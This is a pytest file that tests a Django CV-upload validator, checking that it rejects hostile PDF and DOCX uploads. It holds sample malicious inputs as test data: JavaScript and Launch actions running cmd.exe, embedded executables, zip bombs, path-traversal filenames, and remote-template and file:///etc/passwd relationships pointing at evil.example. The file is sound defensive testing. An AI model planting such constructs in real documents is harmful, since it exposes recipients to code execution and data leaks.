"""CV content checks: what is accepted, and every hostile file rejected with a message."""

import pytest
from django.core.exceptions import ValidationError

from accounts.validators import DOCX, PDF, validate_cv_file, validate_document_name
from tests.factories import PDF_BYTES
from tests.support import documents
from tests.support.pdfs import classic_pdf, object_stream_pdf, padded_pdf, plain_objects

pytestmark = pytest.mark.django_db


def test_a_real_pdf_and_a_real_docx_pass():
    assert validate_cv_file(documents.pdf()).kind == PDF
    assert validate_cv_file(documents.docx()).kind == DOCX


def test_extension_is_judged_case_insensitively():
    assert validate_cv_file(documents.pdf("My CV.PDF")).kind == PDF


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("cv.pdf", documents.EXE_BYTES, "not a PDF"),
        ("cv.pdf", documents.ELF_BYTES, "not a PDF"),
        ("cv.pdf", documents.HTML_BYTES, "not a PDF"),
        ("cv.pdf", b"", "empty"),
        ("cv.docx", documents.plain_zip_bytes(), "not a Word"),
        ("cv.docx", documents.EXE_BYTES, "not a Word"),
        ("cv.docx", PDF_BYTES, "not a Word"),
        ("cv.pdf", documents.docx_bytes(), "not a PDF"),
        ("cv.exe", PDF_BYTES, "PDF or a Word"),
        ("cv.html", documents.HTML_BYTES, "PDF or a Word"),
        ("cv", PDF_BYTES, "PDF or a Word"),
        ("cv.pdf", b"%PDF-1.7\n" + b"x" * 5000, "cut off"),
    ],
)
def test_hostile_or_wrong_files_are_rejected_with_a_message(name, content, message):
    with pytest.raises(ValidationError) as exc:
        validate_cv_file(documents.upload(name, content))
    assert message in " ".join(exc.value.messages)


def test_file_one_byte_over_the_limit_is_rejected(settings):
    content = padded_pdf(settings.CV_MAX_BYTES + 1)
    assert len(content) == 5 * 1024 * 1024 + 1
    with pytest.raises(ValidationError) as exc:
        validate_cv_file(documents.pdf(content=content))
    assert "larger than 5.0\xa0MB" in exc.value.messages[0]


def test_file_exactly_at_the_limit_is_accepted(settings):
    content = padded_pdf(settings.CV_MAX_BYTES)
    assert len(content) == settings.CV_MAX_BYTES
    assert validate_cv_file(documents.pdf(content=content)).size == settings.CV_MAX_BYTES


@pytest.mark.parametrize(
    "content",
    [
        object_stream_pdf(plain_objects()),  # no "trailer" keyword: an xref stream, objects compressed
        PDF_BYTES + b"\r\n\r\n",  # trailing line breaks after %%EOF
        classic_pdf(
            plain_objects(catalog=b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"), version=b"2.0"
        ),
        object_stream_pdf(
            plain_objects(catalog=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>")
        ),
        classic_pdf(
            plain_objects(
                page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] "
                b"/Group << /S /Transparency /CS /DeviceRGB >> >>",
                extra=[
                    b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] "
                    b"/A << /S /URI /URI (https://www.linkedin.com/in/ada) >> >>"
                ],
            )
        ),
    ],
    ids=["xref-stream", "trailing-newlines", "open-action-zoom", "open-action-goto", "link-annotation"],
)
def test_ordinary_pdf_variants_pass(content):
    assert validate_cv_file(documents.pdf(content=content)).kind == PDF


EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"%PDF-1.4\n" + EICAR + b"\n%%EOF\n", "not a PDF"),
        (b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n", "not a PDF"),
        (PDF_BYTES + documents.plain_zip_bytes(), "appended"),
        (b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<<>>\n%%EOF\n", "scripts"),
        (b"%PDF-1.4\n1 0 obj<</S/J#61vaScript/J#53(x)>>endobj\ntrailer<<>>\n%%EOF\n", "scripts"),
        (b"%PDF-1.4\n1 0 obj<</Type/Action/S/Launch/F(cmd.exe)>>endobj\ntrailer<<>>\n%%EOF\n", "launch"),
        (b"%PDF-1.4\n1 0 obj<</Type/EmbeddedFile>>stream\nMZ\nendstream endobj\ntrailer<<>>\n%%EOF\n", "embedded"),
    ],
    ids=[
        "eicar-after-header",
        "html-polyglot",
        "zip-appended",
        "javascript",
        "escaped-javascript",
        "launch",
        "embedded",
    ],
)
def test_pdfs_that_are_not_plain_documents_are_rejected(content, message):
    with pytest.raises(ValidationError) as exc:
        validate_cv_file(documents.pdf(content=content))
    assert message in exc.value.messages[0]


def test_docx_with_a_path_traversal_member_is_rejected():
    content = documents.docx_bytes(extra={"../../evil.sh": b"#!/bin/sh\n"})
    with pytest.raises(ValidationError) as exc:
        validate_cv_file(documents.docx(content=content))
    assert "not a Word" in exc.value.messages[0]


def test_docx_zip_bomb_is_rejected_by_its_uncompressed_size(settings):
    bomb = documents.zip_bomb_docx(settings.DOCX_MAX_UNCOMPRESSED_BYTES + 1)
    assert len(bomb) < settings.CV_MAX_BYTES  # small on the wire, huge when unpacked
    with pytest.raises(ValidationError) as exc:
        validate_cv_file(documents.docx(content=bomb))
    assert "unpacks to more than" in exc.value.messages[0]


def test_docx_with_macros_is_rejected():
    content = documents.docx_bytes(extra={"word/vbaProject.bin": b"\x00" * 64})
    with pytest.raises(ValidationError) as exc:
        validate_cv_file(documents.docx(content=content))
    assert "macros" in exc.value.messages[0]


def test_docx_that_declares_another_main_part_is_rejected():
    content_types = documents.CONTENT_TYPES_XML.replace(
        "wordprocessingml.document.main+xml", "spreadsheetml.sheet.main+xml"
    )
    content = documents.docx_bytes(extra={}, content_types=content_types)
    with pytest.raises(ValidationError):
        validate_cv_file(documents.docx(content=content))


@pytest.mark.parametrize(
    "raw_name",
    ["../../etc/passwd.pdf", "..\\..\\cv.pdf", "cv\x00.pdf", "cv\x07bell.pdf", "cv\u202efdp.docx", "a/b.pdf", ".."],
)
def test_names_with_paths_or_control_characters_are_rejected(raw_name):
    with pytest.raises(ValidationError) as exc:
        validate_document_name(raw_name)
    assert exc.value.messages


def test_a_truncated_zip_is_not_a_docx():
    content = documents.docx_bytes()[:60]
    with pytest.raises(ValidationError) as exc:
        validate_cv_file(documents.docx(content=content))
    assert "not a Word" in exc.value.messages[0]


# --- Active content the raw bytes do not show (objects inside compressed object streams) -----------------

CATALOG_OPENING = b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>"
HIDDEN_ACTIVE_PDFS = {
    "open-action-javascript": plain_objects(catalog=CATALOG_OPENING % b"<< /S /JavaScript /JS (app.alert(1)) >>"),
    "open-action-javascript-by-reference": plain_objects(
        catalog=CATALOG_OPENING % b"4 0 R", extra=[b"<< /Type /Action /S /JavaScript /JS 5 0 R >>", b"(app.alert(1))"]
    ),
    "open-action-uri": plain_objects(catalog=CATALOG_OPENING % b"<< /S /URI /URI (https://evil.example/) >>"),
    "open-action-goto-then-script": plain_objects(
        catalog=CATALOG_OPENING % b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>"
    ),
    "page-additional-action": plain_objects(
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /Named /N /Print >> >> >>"
    ),
    "launch-link": plain_objects(
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        extra=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>"],
    ),
    "submit-form": plain_objects(
        extra=[b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"],
    ),
    "javascript-name-tree": plain_objects(
        catalog=b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>",
        extra=[b"<< /Names [(a) << /S /JavaScript /JS (x) >>] >>"],
    ),
    "embedded-files-name-tree": plain_objects(
        catalog=b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>",
        extra=[b"<< /Names [(cv.exe) << /Type /Filespec /F (cv.exe) /EF << /F 5 0 R >> >>] >>", b"null"],
    ),
    "file-attachment-annotation": plain_objects(
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        extra=[b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (payload.exe) >>"],
    ),
    "xfa-form": plain_objects(
        catalog=b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>", extra=[b"(<xdp/>)"]
    ),
}


@pytest.mark.parametrize("objects", HIDDEN_ACTIVE_PDFS.values(), ids=HIDDEN_ACTIVE_PDFS.keys())
def test_active_content_inside_a_compressed_object_stream_is_rejected(objects):
    content = object_stream_pdf(objects)
    assert b"/OpenAction" not in content  # every dictionary is compressed
    assert b"/S" not in content.replace(b"/Size", b"")
    with pytest.raises(ValidationError) as exc:
        validate_cv_file(documents.pdf(content=content))
    assert exc.value.error_list[0].code == "pdf_active"
    assert "scripts" in exc.value.messages[0]


@pytest.mark.parametrize("objects", HIDDEN_ACTIVE_PDFS.values(), ids=HIDDEN_ACTIVE_PDFS.keys())
def test_active_content_in_the_file_body_is_rejected(objects):
    with pytest.raises(ValidationError) as exc:
        validate_cv_file(documents.pdf(content=classic_pdf(objects)))
    assert exc.value.error_list[0].code == "pdf_active"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "pdf_unreadable"),  # no cross-reference data
        (PDF_BYTES.replace(b"xref\n0 4", b"xref\n0 9"), "pdf_unreadable"),
        (PDF_BYTES.replace(b"/Root 1 0 R", b"/Root 9 0 R"), "pdf_unreadable"),
        (classic_pdf(plain_objects(extra=[b"[" * 50_000 + b"]" * 50_000])), "pdf_unreadable"),
        (classic_pdf(plain_objects(extra=[b"[" + b"0 " * 200_000 + b"]"])), "pdf_unreadable"),
    ],
    ids=["no-xref", "xref-lies-about-its-size", "no-catalog", "deep-nesting", "huge-array"],
)
def test_pdfs_that_do_not_parse_are_rejected_with_a_message(content, code):
    with pytest.raises(ValidationError) as exc:
        validate_cv_file(documents.pdf(content=content))
    assert exc.value.error_list[0].code in {code, "not_pdf", "pdf"}
    assert "PDF" in exc.value.messages[0]


def test_an_object_stream_that_inflates_past_the_budget_is_rejected():
    """A few kilobytes on the wire that would inflate to 200 MB: refused after at most the budget."""
    bomb = object_stream_pdf(plain_objects(), stream_data=b"1 0 " + b" " * (200 * 1024 * 1024))
    assert len(bomb) < 300_000
    with pytest.raises(ValidationError) as exc:
        validate_cv_file(documents.pdf(content=bomb))
    assert exc.value.error_list[0].code == "pdf_unreadable"


def test_an_encrypted_pdf_is_rejected_because_it_cannot_be_checked():
    trailer_with_encrypt = PDF_BYTES.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 4 0 R")
    content = trailer_with_encrypt.replace(b"xref\n", b"4 0 obj\n<< /Filter /Standard >>\nendobj\nxref\n")
    with pytest.raises(ValidationError) as exc:
        validate_cv_file(documents.pdf(content=content))
    assert exc.value.error_list[0].code in {"pdf_encrypted", "pdf_unreadable"}


def test_the_demo_cvs_pass():
    from recruitment.demo.pdf import text_pdf

    content = text_pdf([("F2", 20, "Ada Lovelace"), ("F1", 10, "Chief Product Officer (London)")], title="CV")
    assert validate_cv_file(documents.pdf(content=content)).kind == PDF


# --- DOCX parts that point outside the file ------------------------------------------------------------

EXTERNAL_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
)
TEMPLATE_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
HYPERLINK_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
IMAGE_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"


@pytest.mark.parametrize(
    "relationship",
    [
        f'<Relationship Id="rId1" Type="{TEMPLATE_TYPE}" Target="https://evil.example/t.dotm" TargetMode="External"/>',
        f'<Relationship Id="rId1" Type="{TEMPLATE_TYPE}" Target="\\\\evil\\share\\t.dotm" TargetMode="Exte&#114;nal"/>',
        f'<Relationship Id="rId2" Type="{IMAGE_TYPE}" Target="http://evil.example/pixel.png" TargetMode="External"/>',
        f'<Relationship Id="rId2" Type="{IMAGE_TYPE}" Target="file:///etc/passwd"/>',
    ],
    ids=["remote-template", "unc-template-escaped-mode", "remote-image", "file-url-internal-mode"],
)
def test_docx_with_external_relationships_is_rejected(relationship):
    content = documents.docx_bytes(extra={"word/_rels/settings.xml.rels": EXTERNAL_RELS % relationship})
    with pytest.raises(ValidationError) as exc:
        validate_cv_file(documents.docx(content=content))
    assert exc.value.error_list[0].code == "docx_external"


def test_docx_with_a_dtd_in_a_relationship_part_is_rejected():
    rels = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa">]><Relationships/>'
    content = documents.docx_bytes(extra={"word/_rels/document.xml.rels": rels})
    with pytest.raises(ValidationError) as exc:
        validate_cv_file(documents.docx(content=content))
    assert "not a Word" in exc.value.messages[0]


def test_docx_with_hyperlinks_passes():
    link = (
        f'<Relationship Id="rId3" Type="{HYPERLINK_TYPE}" Target="https://www.linkedin.com/in/ada" '
        'TargetMode="External"/>'
    )
    content = documents.docx_bytes(extra={"word/_rels/document.xml.rels": EXTERNAL_RELS % link})
    assert validate_cv_file(documents.docx(content=content)).kind == DOCX


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "filler",
    [b"0", b"0 ", b"1 0 ", b"[", b"<<", b"(", b"1 0 obj\n"],
    ids=["digits", "numbers", "pairs", "brackets", "dicts", "string", "object-headers"],
)
def test_five_megabytes_of_pathological_filler_is_refused_in_bounded_work(settings, filler):
    """Once quadratic (a backtracking regex over a run of digits): each of these must come back at once."""
    head, tail = b"%PDF-1.4\n", b"\ntrailer<<>>\nstartxref\n9\n%%EOF\n"
    content = head + filler * ((settings.CV_MAX_BYTES - len(head) - len(tail)) // len(filler)) + tail
    with pytest.raises(ValidationError):
        validate_cv_file(documents.pdf(content=content))
